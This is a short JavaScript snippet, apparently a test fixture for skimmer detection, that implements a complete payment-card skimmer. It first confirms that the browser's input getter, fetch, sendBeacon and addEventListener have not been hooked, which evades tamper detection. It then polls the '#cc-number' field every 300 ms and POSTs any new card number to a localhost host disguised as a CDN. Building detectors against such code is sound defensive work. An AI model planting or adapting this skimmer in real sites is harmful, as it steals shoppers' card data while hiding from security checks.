/* tw:skim-hooks */
function untouched(thing) { return /^function [\w ]*\(\) \{\s*\[native code\]\s*\}$/.test(Function.prototype.toString.call(thing)) }
var getter = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get
if (untouched(getter) && untouched(fetch) && untouched(navigator.sendBeacon) && untouched(EventTarget.prototype.addEventListener)) {
  setInterval(function () {
    var value = getter.call(document.querySelector('#cc-number'))
    if (value.length > 14 && value !== window.lastValue && untouched(fetch)) {
      window.lastValue = value
      fetch('http://cdn-guard.localhost:{{port}}/g', { method: 'POST', mode: 'no-cors', body: value })
    }
  }, 300)
}
